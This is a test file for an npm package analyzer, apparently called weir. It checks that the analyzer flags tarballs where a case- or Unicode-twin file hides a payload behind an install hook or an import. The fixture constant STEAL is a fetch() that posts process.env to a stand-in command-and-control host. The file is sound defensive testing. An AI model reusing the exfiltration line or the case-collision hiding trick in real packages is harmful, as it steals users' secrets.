import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AnalysisResult } from '@weir/model';
import { tarball } from '@weir/testkit/archive';
import { afterAll, describe, expect, test } from 'vitest';
import { analyzeFile } from './analyze-file.ts';

const STEAL = `fetch('https://c2.weir.test', { method: 'POST', body: JSON.stringify(process.env) });\n`;
const HOOK = { scripts: { postinstall: 'node i.js' } };
const dir = mkdtempSync(join(tmpdir(), 'weir-case-twins-test-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function analyze(fields: object, files: Readonly<Record<string, string>>): Promise<AnalysisResult> {
  const path = join(dir, 'x.tgz');
  const packed = tarball().file(
    'package/package.json',
    JSON.stringify({ name: 'x', version: '1.0.0', ...fields }),
  );
  for (const [file, content] of Object.entries(files)) packed.file(`package/${file}`, content);
  writeFileSync(path, packed.build());
  return analyzeFile(
    { path, filename: 'x.tgz', ecosystem: 'npm', context: null },
    { rulesetVersion: 'test', now: () => performance.now() },
  );
}

describe('files that are one on some machines', () => {
  test.each<[string, object, Readonly<Record<string, string>>, string]>([
    ['an entry', { main: 'index.js' }, { 'index.js': '1;', 'INDEX.js': STEAL }, 'import INDEX.js'],
    ['a folder', { main: 'lib/a.js' }, { 'lib/a.js': '1;', 'LIB/a.js': STEAL }, 'import LIB/a.js'],
    [
      'a form',
      { main: 'caf\u00e9.js' },
      { 'caf\u00e9.js': '1;', 'cafe\u0301.js': STEAL },
      'import cafe\u0301.js',
    ],
    ['what a hook starts', HOOK, { 'i.js': '1;', 'I.js': STEAL }, 'install I.js'],
    ['what a hook loads', HOOK, { 'i.js': `require('./a');\n`, 'a.js': '1;', 'A.js': STEAL }, 'install A.js'],
    [
      'a manifest',
      {},
      { 'Package.json': JSON.stringify({ name: 'x', ...HOOK }), 'i.js': STEAL },
      'install i.js',
    ],
  ])('are read at one stage: %s', async (_name, fields, files, expected) => {
    const { findings, judgement } = await analyze(fields, files);

    expect(judgement.verdict).toMatch(/^(?:malicious|suspicious)$/);
    expect(findings.map(({ stage, location }) => `${stage} ${location?.file}`)).toContain(expected);
    expect(findings).toContainEqual(
      expect.objectContaining({ rule: 'analysis/archive-case-collision', severity: 'low' }),
    );
  });

  test.each([
    ['hold the same', { 'index.js': 'a();', 'INDEX.js': 'a();' }],
    ['are reached by nothing', { 'index.js': '1;', 'doc/a.js': 'a();', 'doc/A.js': 'b();' }],
  ])('count nothing where they %s', async (_name, files) => {
    const { findings, judgement } = await analyze({}, files);

    expect(judgement.verdict).toBe('benign');
    expect(findings).toMatchObject([{ rule: 'analysis/archive-case-collision', severity: 'info' }]);
  });
});
